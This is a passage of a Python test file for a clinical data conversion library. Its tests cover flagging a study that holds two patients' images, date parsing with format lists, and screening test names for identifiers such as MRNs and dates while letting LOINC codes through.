                            files=tuple(f"pacs/p7/{n}.dcm" for n in range(5)))]
    result = convert_clinical(read_tables([tmp_path / "demographics.csv"]), key=KEY, site="S", project="P",
                              studies=studies)
    [issue] = [i for i in result.errors if i.code == "study_two_patients"]
    assert issue.value == "2.25.3" and issue.message == (
        "study 2.25.3 holds images of 2 different patients: patient 1 (files pacs/p1/a.dcm, pacs/p1/b.dcm); "
        "patient 7 (files pacs/p7/0.dcm, pacs/p7/1.dcm, pacs/p7/2.dcm and 2 more) "
        "(original Study Instance UID 1.2.840.99.1, accession ACC42)")


def test_parse_date_takes_its_formats_as_a_list_too() -> None:
    """parse_date keeps the dates it read (a cache keyed by the text and the formats): given a list of
    formats, as a mapping's YAML lists them, it raised TypeError: unhashable type: 'list'."""
    from radcommons.clinical import parse_date

    assert parse_date("03/01/2021", ["%m/%d/%Y"]) == dt.date(2021, 3, 1)
    assert parse_date("03/01/2021", ["%d/%m/%Y"]) == dt.date(2021, 1, 3)  # not the first answer, kept
    assert parse_date(" 2021-03-01 ", ("%Y-%m-%d",)) == dt.date(2021, 3, 1)


def test_a_loinc_code_in_a_test_name_is_no_identifier_and_an_mrn_still_is() -> None:
    """"SARS-CoV-2 RNA 94500-6" was refused as holding a run of five digits (an MRN?): a LOINC code (its check digit
    right) is now taken for one; a number of that shape with a wrong check digit, a run of digits and the site's own
    MRN are still refused."""
    mrns = ("PT-A077", "PT-B088", "PT-C099", "PT-D100", "PT-E111")
    demo = _table("demographics", ["MRN", "Sex"], *[[m, "F"] for m in mrns])
    names = ["SARS-CoV-2 RNA 94500-6", "SARS-CoV-2 RNA (LOINC 94309-2)", "SARS-CoV-2 RNA 94500-7",
             "SARS-CoV-2 RNA 18376500", "SARS-CoV-2 RNA for PT-B088"]
    tests = _table("covid_tests", ["MRN", "TestDate", "Test Name", "Result"],
                   *[[m, "2021-03-01", name, "Positive"] for m, name in zip(mrns, names)])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    found = {i.row: i.message for i in result.errors if i.code == "identifier_in_text"}
    assert set(found) == {4, 5, 6}, result.errors
    assert "run of five or more digits" in found[4] and "run of five or more digits" in found[5]
    assert "an MRN of this site" in found[6]
    assert sorted(m["test_name"] for m in result.by_node()["measurement"]) == sorted(names[:2])


def test_no_part_of_a_date_in_a_test_name_is_taken_for_a_loinc_code() -> None:
    """'7/4/1961-2' ends in the LOINC shape with a right check digit ('1961-2'): the code was taken out and the
    date went unseen. A code stands alone, between spaces, brackets or list punctuation."""
    from radcommons.clinical.screen import screen_text

    for text in ("SARS-CoV-2 RNA DOB 7/4/1961-2", "SARS-CoV-2 RNA collected 01/02/2021-4"):
        problem = screen_text("test_name", text)
        assert problem is not None and "calendar date" in problem.message, text
    for text in ("SARS-CoV-2 RNA 94500-6", "SARS-CoV-2 RNA (94500-6)", "SARS-CoV-2 RNA [94500-6], NAA",
                 "LOINC:94500-6"):
        assert screen_text("test_name", text) is None, text
